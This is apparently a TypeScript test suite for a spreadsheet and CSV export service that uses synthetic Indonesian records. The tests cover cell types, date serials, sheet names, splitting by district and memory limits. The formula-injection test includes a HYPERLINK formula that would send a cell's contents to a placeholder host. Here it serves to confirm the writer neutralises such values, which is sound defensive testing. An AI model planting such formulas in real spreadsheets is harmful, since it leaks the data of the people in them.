import { execFile } from 'node:child_process'
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { test } from '@japa/runner'
import { streamXlsxRows } from 'hucre/xlsx'
import type { Column, Row } from '#services/documents/cells'
import { writeSpreadsheet, writeWorkbook, type GroupedRow } from '#services/documents/spreadsheet'
import { openTable } from '#services/documents/table'
import { writeWholeFile } from '#services/documents/whole_file'
import { eventually } from '#tests/support/patience'
import { unzip } from './support.js'

const run = promisify(execFile)

const columns: Column[] = [
  { header: 'nik', type: 'text', width: 18 },
  { header: 'nama', type: 'text' },
  { header: 'lat', type: 'number' },
  { header: 'tgl_lahir', type: 'date' },
]

async function sheetXml(workbook: Readable): Promise<{ sheet: string; styles: string; parts: Map<string, Buffer> }> {
  const parts = await unzip(await buffer(workbook))
  return { sheet: parts.get('xl/worksheets/sheet1.xml')!.toString(), styles: parts.get('xl/styles.xml')!.toString(), parts }
}

async function rowsOf(workbook: Uint8Array): Promise<unknown[][]> {
  const rows: unknown[][] = []
  for await (const { values } of streamXlsxRows(workbook)) rows.push(values)
  return rows
}

async function* grouped(counts: Record<string, number>): AsyncGenerator<GroupedRow> {
  for (const [group, count] of Object.entries(counts)) {
    for (let i = 0; i < count; i++) yield { group, row: [`${group} ${i}`, 'UJI', i, '2026-11-25'] }
  }
}

test.group('Spreadsheet', () => {
  test('keeps texts as texts, numbers as numbers and dates as Excel serials, under a frozen header', async ({ assert }) => {
    const rows: Row[] = [
      ['0012', "MA'RUF UJI", -6.2, '1962-12-25'],
      ['3201014507859901', 'ABDUL "UJI" & <b>', '-6.25', '1949-01-01'],
      [null, undefined, null, '1899-12-30'],
    ]
    const { sheet, styles } = await sheetXml(writeWorkbook({ name: 'Data', columns }, rows))
    assert.match(sheet, /<c r="A2" t="inlineStr" s="\d+"><is><t>0012<\/t><\/is><\/c>/)
    assert.match(sheet, /<c r="A3" t="inlineStr" s="\d+"><is><t>3201014507859901<\/t>/)
    assert.match(sheet, /<c r="C2"[^>]*><v>-6.2<\/v>/)
    assert.match(sheet, /<c r="C3"[^>]*><v>-6.25<\/v>/)
    assert.match(sheet, /<c r="D2" s="\d+"><v>23005<\/v>/)
    assert.match(sheet, /<c r="D3" s="\d+"><v>17899<\/v>/)
    assert.include(sheet, '<t>30-12-1899</t>')
    assert.include(sheet, '<t>ABDUL "UJI" &amp; &lt;b&gt;</t>')
    assert.match(sheet, /<pane ySplit="1" topLeftCell="A2" state="frozen"/)
    assert.match(sheet, /<col min="1" max="1" width="18"/)
    assert.include(styles, 'formatCode="dd-mm-yyyy"')
  })

  test('gives the same serials whatever the zone of the server (S07)', async ({ assert }) => {
    const zone = process.env.TZ
    const found: string[] = []
    for (const name of ['UTC', 'Asia/Jakarta', 'Asia/Makassar', 'Asia/Jayapura']) {
      process.env.TZ = name
      const { sheet } = await sheetXml(
        writeWorkbook({ name: 'Data', columns: [{ header: 'tgl', type: 'date' }] }, [['1962-12-25'], ['1949-01-01']]),
      )
      found.push([...sheet.matchAll(/<v>(\d+)<\/v>/g)].map(([, serial]) => serial).join(' '))
    }
    if (zone === undefined) delete process.env.TZ
    else process.env.TZ = zone
    assert.deepEqual(found, Array(4).fill('23005 17899'))
  })

  test('a text that begins with an apostrophe of its own comes back with it, and a text behind the last column stays', async ({
    assert,
  }) => {
    const folder = await mkdtemp(join(tmpdir(), 'siks-apostrophe-'))
    try {
      const path = join(folder, 'a.xlsx')
      const texts = ["'=1+1", "''-UJI", "'ALIM UJI", '=1+1', '-UJI', "'"]
      const rows = texts.map((text): Row => [text, text, null, null])
      await writeWholeFile(path, writeWorkbook({ name: 'Data', columns }, [...rows, ['A', 'B', null, null, 'C']]))
      const table = await openTable(path)
      const read = []
      for await (const { cells, beyond } of table.rows) read.push([...cells.slice(0, 2), ...(beyond ?? [])])
      assert.deepEqual(read, [...texts.map((text) => [text, text]), ['A', 'B', 'C']])
    } finally {
      await rm(folder, { recursive: true })
    }
  })

  test('writes every text that looks like a formula as a string cell and reads it back as it was (S17)', async ({ assert }) => {
    const texts = [
      '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
      '+62811000000',
      '-UJI',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
      "'=1+1",
      ' spasi ',
      '_x0041_ dan _x000D_',
      '{{ 7*7 }}',
      'UJI\uffff DAN\ufffe',
    ]
    const risky: Column[] = [
      { header: '=1+1', type: 'text' },
      { header: 'lat', type: 'number' },
    ]
    const bytes = await buffer(
      writeWorkbook(
        { name: '=1+1', columns: risky },
        texts.map((text): Row => [text, -6.2]),
      ),
    )
    const parts = await unzip(bytes)
    assert.notInclude(parts.get('xl/worksheets/sheet1.xml')!.toString(), '<f')
    assert.deepEqual(await rowsOf(bytes), [['=1+1', 'lat'], ...texts.map((text) => [text, -6.2])])
  })

  test('makes a sheet name that Excel takes from any title', async ({ assert }) => {
    const names = {
      'Perbaikan [BDT] 33.71/2026': 'Perbaikan  BDT  33.71 2026',
      "'Hasil verifikasi kelurahan K' dan lainnya": 'Hasil verifikasi kelurahan K',
      '///': 'Data',
    }
    for (const [given, expected] of Object.entries(names)) {
      const { parts } = await sheetXml(writeWorkbook({ name: given, columns }, []))
      assert.include(parts.get('xl/workbook.xml')!.toString(), `name="${expected}"`)
    }
  })

  test('stays one workbook up to the limit and becomes one per kecamatan above it, with every row', async ({ assert }) => {
    const counts = { '33.71.01 Magelang Selatan': 3, '33.71.02 Magelang/Utara': 2, '33.71.03 Magelang Tengah': 1 }
    const whole = writeSpreadsheet({ name: 'Hasil', columns }, grouped(counts), 6, 6)
    assert.equal(whole.extension, 'xlsx')
    assert.lengthOf(await rowsOf(await buffer(whole.content)), 7)

    const split = writeSpreadsheet({ name: 'Hasil', columns }, grouped(counts), 6, 5)
    assert.equal(split.extension, 'zip')
    assert.equal(split.contentType, 'application/zip')
    const books = await unzip(await buffer(split.content))
    assert.deepEqual(
      [...books.keys()],
      ['33.71.01 Magelang Selatan.xlsx', '33.71.02 Magelang-Utara.xlsx', '33.71.03 Magelang Tengah.xlsx'],
    )
    const sizes = await Promise.all([...books.values()].map(async (book) => (await rowsOf(book)).length - 1))
    assert.deepEqual(sizes, [3, 2, 1])
    assert.equal((await rowsOf([...books.values()][1]!))[2]![0], '33.71.02 Magelang/Utara 1')
  })

  test('gives the same bytes for the same rows', async ({ assert }) => {
    const make = async () => buffer(writeSpreadsheet({ name: 'Hasil', columns }, grouped({ A: 20, B: 20 }), 40, 10).content)
    assert.isTrue((await make()).equals(await make()))
  })

  test('leaves no file behind when the rows break off, and closes their source (S18)', async ({ assert }) => {
    const folder = await mkdtemp(join(tmpdir(), 'siks-xlsx-'))
    let closed = 0
    async function* broken(): AsyncGenerator<GroupedRow> {
      try {
        yield* grouped({ A: 50_000, B: 10 })
        throw new Error('the cursor broke')
      } finally {
        closed++
      }
    }
    for (const limit of [10, 100_000]) {
      const { content } = writeSpreadsheet({ name: 'Hasil', columns }, broken(), 50_010, limit)
      await assert.rejects(() => writeWholeFile(join(folder, 'hasil'), content), 'the cursor broke')
    }
    assert.deepEqual(await readdir(folder), [])
    assert.equal(closed, 2)
    await rm(folder, { recursive: true })
  })

  test('stops reading its source when nobody takes the file any more', async ({ assert }) => {
    let [closed, given] = [false, 0]
    async function* endless(): AsyncGenerator<GroupedRow> {
      try {
        for (;;) yield { group: `G${Math.floor(given / 1000)}`, row: [String(given++), 'UJI', 1, '2026-11-25'] }
      } finally {
        closed = true
      }
    }
    const { content } = writeSpreadsheet({ name: 'Hasil', columns }, endless(), 2_000_000)
    for await (const chunk of content) {
      assert.isAbove(chunk.length, 0)
      break
    }
    await eventually('the source is closed', () => closed)
    assert.isBelow(given, 200_000)
  })

  test('writes 50,000 rows, the last one present, and 200,000 rows of CSV there and back in a heap of 64 MB (S18)', async ({
    assert,
  }) => {
    const folder = await mkdtemp(join(tmpdir(), 'siks-xlsx-'))
    const program = fileURLToPath(new URL('flat_memory.ts', import.meta.url))
    const { stdout } = await run(process.execPath, ['--import=./bin/typescript.js', '--max-old-space-size=64', program, folder])
    const result = JSON.parse(stdout) as Record<'csv' | 'read' | 'xlsx' | 'megabytes', number> & { lastCsv: string }
    assert.equal(result.read, 200_000)
    assert.equal(result.lastCsv, 'RUTA 200000 kolom 0 & SEKITARNYA')
    assert.isAbove(result.csv, 50_000_000)
    assert.isBelow(result.megabytes, 300)
    const workbook = await readFile(join(folder, 'besar.xlsx'))
    assert.equal(workbook.length, result.xlsx)
    const sheet = (await unzip(workbook)).get('xl/worksheets/sheet1.xml')!
    assert.include(sheet.subarray(-2000).toString(), 'RUTA 50000 kolom 0')
    await rm(folder, { recursive: true })
  })
})

test.group('Whole file', () => {
  test('takes its name only when whole, replaces an older file and tells size and hash', async ({ assert }) => {
    const folder = await mkdtemp(join(tmpdir(), 'siks-whole-'))
    const path = join(folder, 'hasil.csv')
    await writeFile(path, 'lama')
    async function* content() {
      yield Buffer.from('abc')
      assert.equal(await readFile(path, 'utf8'), 'lama')
      assert.lengthOf(await readdir(folder), 2)
    }
    assert.deepEqual(await writeWholeFile(path, content()), {
      bytes: 3,
      sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
    })
    assert.equal(await readFile(path, 'utf8'), 'abc')
    assert.deepEqual(await readdir(folder), ['hasil.csv'])
    await rm(folder, { recursive: true })
  })
})
